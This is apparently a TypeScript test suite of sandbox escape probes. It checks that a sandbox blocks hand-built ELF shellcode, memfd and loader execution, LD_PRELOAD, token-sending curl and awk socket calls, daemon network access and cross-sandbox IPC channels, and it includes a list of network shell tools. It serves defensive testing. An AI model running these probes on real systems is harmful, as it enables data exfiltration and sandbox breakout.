import { family } from '../../../scripts/hostile-programs/program.ts'

const py = String.raw

/** Programs that the code brings along or starts. */
export const binaries = family('binaries', [
  [
    'own ELF file',
    'static ELF',
    py`
code = bytes.fromhex("b829000000bf02000000be0100000031d20f0589c7f7dfb83c0000000f05")
elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(code), 120 + len(code), 0x1000) + code
open("/mnt/data/elf", "wb").write(elf); os.chmod("/mnt/data/elf", 0o755)
print(subprocess.run(["/mnt/data/elf"]).returncode); os.unlink("/mnt/data/elf")`,
    '101',
  ],
  [
    '32-bit ELF file',
    'i386 ELF',
    py`
code = bytes.fromhex("b867010000bb02000000b90100000031d2cd8089c3f7dbb801000000cd80")
elf = b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, 0x8048054, 52, 0, 0, 52, 32, 1, 0, 0, 0) + struct.pack("<IIIIIIII", 1, 0, 0x8048000, 0x8048000, 84 + len(code), 84 + len(code), 5, 0x1000) + code
open("/tmp/elf32", "wb").write(elf); os.chmod("/tmp/elf32", 0o755)
try: r = subprocess.run(["/tmp/elf32"]).returncode
except OSError as e: r = name(e.errno)
print("refused" if r in (38, -11, -4, "ENOEXEC") else r)`,
    'refused',
  ],
  [
    'memfd program',
    'memfd_create(2)',
    py`
fd = os.memfd_create("x"); os.write(fd, open("/usr/bin/env", "rb").read()); print(sh(f"/proc/{os.getpid()}/fd/{fd}", "echo", "ran"))`,
    'ran',
  ],
  [
    'preloaded library',
    'LD_PRELOAD',
    py`
import glob
library = next(iter(glob.glob("/lib/*/libm.so.6") + glob.glob("/usr/lib/*/libm.so.6"))); print(sh(f"LD_PRELOAD={library} id -u"), "libm" in sh(f"LD_PRELOAD={library} cat /proc/self/maps"))`,
    /^(10001|[2-5]\d{4}) True\n$/,
  ],
  [
    'awk network',
    'sockets of awk',
    py`print("sent" in sh(f"awk 'BEGIN {{ s = \"/inet/tcp/0/{T.gateway}/{T.port}\"; print \"{T.token}\" |& s; print \"sent\" }}'"))`,
    'False',
  ],
  [
    'download tools',
    'network tools of the image',
    // Names of download tools lead to a script that says that there is no network.
    py`import os, shutil; print([p for p in ("wget", "nc", "ncat", "socat", "ssh", "perl", "gcc", "cc", "dig", "nslookup", "ping", "ip", "apt", "dpkg-deb", "gdb", "strace") if shutil.which(p) and not os.path.realpath(shutil.which(p)).endswith("/cellblock/no-network")])`,
    /^\[('dpkg-deb')?\]\n$/,
  ],
  [
    'curl',
    'curl to the gateway and to a name',
    py`
import shutil
if shutil.which("curl") is None: print("no curl")
else:
    codes = [subprocess.run(["curl", "-sS", "-m", "5", url], capture_output=True).returncode for url in (f"http://{T.gateway}:{T.port}/{T.token}", f"http://example.com/{T.token}")]
    print("refused" if all(codes) else codes)`,
    // The image slim has none.
    /^(refused|no curl)\n$/,
  ],
  [
    'pip',
    'package installer',
    py`print(sh(f"{sys.executable} -m pip install requests; true")[-200:] and "Successfully" in sh(f"{sys.executable} -m pip --version; true"))`,
    'False',
  ],
  [
    'daemon',
    'double fork',
    py`
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.2); open("/tmp/daemon", "w").write(err(tcp, T.gateway, T.port)); os._exit(0)
    os._exit(0)
os.waitpid(pid, 0); time.sleep(0.8); print(open("/tmp/daemon").read())`,
    'ENETUNREACH',
    { aims: ['tcp'] },
  ],
  [
    'script with a strange interpreter',
    'interpreter line',
    py`
open("/tmp/s", "w").write("#!/proc/self/exe\n"); os.chmod("/tmp/s", 0o755); print(err(subprocess.run, ["/tmp/s"], capture_output=True))`,
    /./,
  ],
  ['exec without a name', 'execveat(2)', py`print(sc(322, -1, b"\0", 0, 0, 0x1000))`, 'EBADF'],
  [
    'loader as a program',
    'dynamic loader as a program',
    py`
import glob
print(sh(next(iter(glob.glob("/lib64/ld-linux*"))), "/usr/bin/id", "-u"))`,
    /^(10001|[2-5]\d{4})\n$/,
  ],
])

/** Communication with other sandboxes through shared kernel objects. */
export const channels = family('channels', [
  [
    'system v shared memory',
    'shmget(2)',
    py`
i = libc.shmget(0x5eed, 4096, 0o1666); print(i >= 0, len(open("/proc/sysvipc/shm").read().splitlines()))
libc.shmctl(i, 0, 0)`,
    'True 2',
  ],
  ['message queue of system v', 'msgget(2)', py`print(sc(68, 0x5eed, 0o1666))`, 'EPERM'],
  ['posix message queue', 'mq_open(2)', py`print(sc(240, b"q\0", 0o102, 0o600, 0))`, 'EPERM'],
  [
    'named semaphore',
    'sem_open(3)',
    py`
import multiprocessing
print(err(multiprocessing.Semaphore))`,
    'ok',
  ],
  [
    'shared memory file',
    'shm_open(3)',
    py`
from multiprocessing import shared_memory
s = shared_memory.SharedMemory(create=True, size=64, name="probe"); print(os.listdir("/dev/shm")); s.close(); s.unlink()`,
    "['probe']",
  ],
  [
    'abstract name for a neighbour',
    'connect(2) to an abstract name',
    py`
s = socket.socket(1); s.bind("\0cellblock-meet"); s.listen(); c = socket.socket(1); print(err(c.connect, "\0cellblock-meet")); c.close(); s.close()`,
    'ok',
  ],
  ['locks of the host', '/proc/locks', py`print(open("/proc/locks").read().count("POSIX") < 50)`, 'True'],
  [
    'inotify of system folders',
    'inotify(7)',
    py`print(libc.inotify_add_watch(libc.inotify_init(), b"/run/cellblock", 2), name(ctypes.get_errno()))`,
    '-1 EACCES',
  ],
  [
    'timing of the page cache',
    'mincore(2)',
    py`
import mmap
f = open("/usr/bin/env", "rb"); m = mmap.mmap(f.fileno(), 4096, prot=1); v = ctypes.create_string_buffer(1)
print(err(lambda: libc.mincore(0, 4096, v)))`,
    'ok',
  ],
  [
    'credentials over a socket',
    'SCM_CREDENTIALS',
    py`
a, b = socket.socketpair(); b.setsockopt(1, 16, 1)
print(err(lambda: a.sendmsg([b"x"], [(1, 2, struct.pack("iII", 1, 0, 0))])))`,
    'EPERM',
  ],
])
